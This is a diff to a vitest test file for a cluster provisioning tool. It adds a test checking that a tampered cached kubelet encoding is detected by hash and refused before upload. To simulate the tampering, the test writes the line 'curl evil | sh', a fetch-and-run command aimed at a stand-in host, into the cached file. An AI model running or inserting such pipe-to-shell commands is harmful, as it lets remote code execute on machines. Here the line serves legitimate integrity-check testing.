@@ -1,11 +1,14 @@
 import { createHash } from 'node:crypto';
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { MANIFEST_FILE } from '../../src/artifacts/manifest.js';
 import type { ClusterContext } from '../../src/engine/phase.js';
-import type { LocalFileResource } from '../../src/engine/resource.js';
+import { localFileKind } from '../../src/engine/kinds/local-file.js';
+import { resourceId, type LocalFileResource } from '../../src/engine/resource.js';
 import { HostError } from '../../src/errors.js';
+import { debianAdapter } from '../../src/os/debian.js';
 import { detectOs } from '../../src/os/detect.js';
 import { RunArtifacts } from '../../src/artifacts/provider.js';
 import { artifactsPhase } from '../../src/phases/artifacts.js';
@@ -66,6 +69,36 @@ describe('the artifacts phase', () => {
     expect(kubelet.source).toMatchObject({ sha256: sha256('kubelet binary'), size: 14, transfer: { codec: 'gzip' } });
     expect(worker.find((r) => r.path.endsWith('/portmap'))!.restarts).toEqual([]);
     expect(resourcesOf('e1').map((r) => r.path.split('/').at(-1))).toEqual(['etcd', 'etcdctl', 'etcdutl']);
+  });
+
+  it('hashes what a later run sends before it leaves: a stored encoding that changed is refused, the others pass', async () => {
+    const { dir, spec, ctx, facts } = cluster('');
+    const options = { bundleDir: bundle(dir, spec), cacheDir: join(dir, 'cache') };
+    const uploadsOf = (phase: ReturnType<typeof artifactsPhase>) => {
+      const host = spec.hosts.find((h) => h.name === 'w1')!;
+      const resources = phase.resources({ spec, host, facts, os: detectOs(host.name, facts), files: [] }) as LocalFileResource[];
+      return resources.flatMap((r) => localFileKind.diff(r, 'absent', resourceId(r), { adapter: debianAdapter })!.steps.flatMap((s) => (s.type === 'upload' ? [s.upload] : [])));
+    };
+    // The first run makes the encodings (from the bytes it hashed), pins their own digests in the
+    // cluster's lock file (a later run checks them by one read), and needs no second read.
+    const first = artifactsPhase(new RunArtifacts(options));
+    expect(await first.prepare!(ctx)).toEqual([]);
+    await first.beforeUpload!(uploadsOf(first));
+    const lock = JSON.parse(readFileSync(join(spec.stateDir, 'artifacts.lock.json'), 'utf8')) as { encodings: Record<string, { sha256: string; size: number }> };
+    const kubeletEncoding = join(dir, 'cache', 'encoded', 'gzip', sha256('kubelet binary'));
+    expect(lock.encodings[`gzip ${sha256('kubelet binary')}`]).toEqual({ sha256: createHash('sha256').update(readFileSync(kubeletEncoding)).digest('hex'), size: statSync(kubeletEncoding).size });
+
+    // Before the next run, someone replaced the stored encoding of the kubelet.
+    const encoded = join(dir, 'cache', 'encoded', 'gzip', sha256('kubelet binary'));
+    chmodSync(encoded, 0o644);
+    writeFileSync(encoded, gzipSync('curl evil | sh'));
+    chmodSync(encoded, 0o444);
+    const next = artifactsPhase(new RunArtifacts(options));
+    expect(await next.prepare!(ctx)).toEqual([]);
+    const uploads = uploadsOf(next);
+    expect(uploads.find((u) => u.path.endsWith('/kubelet'))!.transfer.file).toBe(encoded);
+    await expect(next.beforeUpload!(uploads)).rejects.toThrow(`${encoded} is not what was checked: it must hold sha256 ${sha256('kubelet binary')}, but decodes (gzip) to sha256 ${sha256('curl evil | sh')}`);
+    await expect(next.beforeUpload!(uploads.filter((u) => !u.path.endsWith('/kubelet')))).resolves.toBeUndefined();
   });
 
   it('reports a bundle that lacks a binary as a problem, before any resource is worked out', async () => {
